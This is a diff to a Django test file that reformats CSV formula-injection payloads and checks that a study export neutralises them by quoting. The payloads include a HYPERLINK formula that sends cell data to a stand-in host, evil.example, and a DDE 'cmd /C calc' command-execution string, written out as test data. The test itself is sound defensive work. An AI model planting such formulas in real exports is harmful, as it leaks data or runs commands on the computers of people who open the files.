@@ -17,8 +17,15 @@ from tests.factories import move_to, parent_with_card
 
 pytestmark = pytest.mark.django_db
 
-FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
-            "\t=1+1", "\r=1+1", "'quoted already"]
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+    "'quoted already",
+]
 
 
 def _is_number(cell):
@@ -56,10 +63,12 @@ def typed_formulas(graph_study):
     move_to(participant, Step.STORIES)
     client.get(f"/s/{study.slug}/journey/")
     assignment = StoryAssignment.objects.filter(participant=participant).order_by("position").first()
-    graph_services.record_vote(participant=participant, assignment=assignment, answer="yes",
-                               reason="=HYPERLINK(\"http://evil.example\")")
-    ProlificDemographics.objects.create(participant=participant, data={"Age": "-34", "Note": "@note"},
-                                        source_name="prolific.csv")
+    graph_services.record_vote(
+        participant=participant, assignment=assignment, answer="yes", reason='=HYPERLINK("http://evil.example")'
+    )
+    ProlificDemographics.objects.create(
+        participant=participant, data={"Age": "-34", "Note": "@note"}, source_name="prolific.csv"
+    )
     assert ProlificIdentity.objects.get(participant=participant).prolific_pid.startswith("=")
     return study, participant
 
@@ -68,13 +77,16 @@ def test_every_exported_csv_neutralises_formula_cells(typed_formulas, tmp_path):
     study, _ = typed_formulas
     exports.export_study(study, tmp_path, identities_reason="checking the export is safe to open")
     cells = list(_cells(tmp_path))
-    dangerous = [(name, cell) for name, cell in cells
-                 if cell.startswith(TRIGGERS) and not cell.startswith("'") and not _is_number(cell)]
+    dangerous = [
+        (name, cell)
+        for name, cell in cells
+        if cell.startswith(TRIGGERS) and not cell.startswith("'") and not _is_number(cell)
+    ]
     assert dangerous == []
     written = {cell for _, cell in cells}
     for text in FORMULAS:
         assert "'" + text in written, text  # neutralised, and the original is one quote away
-    assert "'" + "=HYPERLINK(\"http://evil.example\")" in written  # the vote reason
+    assert "'" + '=HYPERLINK("http://evil.example")' in written  # the vote reason
     assert {"'-34", "'@note"} <= written  # imported demographics
     assert "'=cmd|' /C calc'!A0" in written  # the Prolific id
     assert {unquote(cell) for cell in written} >= set(FORMULAS)
